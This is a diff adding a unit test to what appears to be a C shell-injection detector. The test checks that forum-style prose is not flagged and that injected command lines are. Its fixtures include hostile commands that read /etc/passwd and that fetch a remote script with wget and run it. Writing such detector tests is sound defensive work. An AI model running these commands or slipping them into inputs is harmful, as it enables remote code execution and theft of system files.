@@ -1050,6 +1050,24 @@ Test(webstruct, a_quoted_select_and_a_prose_dash_are_no_sub_query)
 
 /* A search's exact phrase at the head is no quote ending a string (the tenth held-out
  * set's "drop table" lang:ja); a quote that leaves SQL after it still is. */
+/* A line break after one word starts a command line unless sentences follow it */
+Test(webstruct, a_greeting_on_its_own_line_is_no_shell_break)
+{
+    static const char *const prose[] = {
+        "Thanks!\nIt works now, but the build on the old machine still fails. Any idea?",
+        "```ini\n[mysqld]\nslow_query_log = 1\n```\n\nworks for me with curl -x post -d "
+        "@body.json. on windows the path is in the user's folder instead.",
+    };
+    for (size_t i = 0; i < sizeof prose / sizeof prose[0]; i++)
+        cr_assert_not(fk_webstruct_text_breaks(prose[i], strlen(prose[i])) & FK_WS_BREAK_SHELL,
+                      "%s", prose[i]);
+    static const char *const commands[] = {"x\nid", "x\ncat /etc/passwd",
+                                           "x\nwget http://192.0.2.1/s.sh -O /tmp/s; sh /tmp/s"};
+    for (size_t i = 0; i < sizeof commands / sizeof commands[0]; i++)
+        cr_assert(fk_webstruct_text_breaks(commands[i], strlen(commands[i])) & FK_WS_BREAK_SHELL,
+                  "%s", commands[i]);
+}
+
 /* Wildcards spell the short names of system paths; a title's question marks do not */
 Test(webstruct, wildcards_in_short_components_only)
 {
